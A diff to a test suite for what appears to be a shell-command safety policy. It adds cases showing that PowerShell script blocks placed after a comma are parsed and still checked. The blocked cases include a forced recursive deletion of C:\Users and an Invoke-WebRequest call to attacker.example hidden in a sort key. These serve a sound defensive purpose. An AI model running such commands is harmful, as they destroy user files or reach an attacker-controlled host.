@@ -1364,3 +1364,23 @@ def test_cmd_variable_substrings_and_remote_invoke_block(command: str, rule: str
 @pytest.mark.parametrize("command", ["Invoke-Command { Get-Date }", "icm { Get-Date }", "cmd /c echo 100%"])
 def test_local_script_blocks_and_literal_percent_stay_allowed(command: str) -> None:
     assert Policy.default().check(command, "powershell").allowed
+
+
+# A block after a comma (a calculated property, a sort key) is respelled in parentheses: the same element.
+BLOCK_ELEMENTS_ALLOWED = [
+    "Get-Process | Select-Object -Property ProcessName,{$_.StartTime.DayOfWeek}",
+    "Get-ChildItem | Select-Object -Property Name, {$_.Length}",
+    "Get-ChildItem | Select-Object Name , { if ($_.PSIsContainer) { 'dir' } else { $_.Length } }",
+]
+BLOCK_ELEMENTS_BLOCKED = [
+    (
+        "Get-ChildItem | Select-Object Name,{Remove-Item -Recurse -Force C:\\Users}",
+        "destructive.recursive-delete",
+    ),
+    ("ls | Sort-Object Name, {(Invoke-WebRequest https://attacker.example).Content}", "network.http-client"),
+]
+
+
+def test_a_block_after_a_comma_parses_and_its_code_is_still_checked() -> None:
+    every_case(BLOCK_ELEMENTS_ALLOWED, assert_allowed_clean)
+    every_case(BLOCK_ELEMENTS_BLOCKED, assert_blocked)
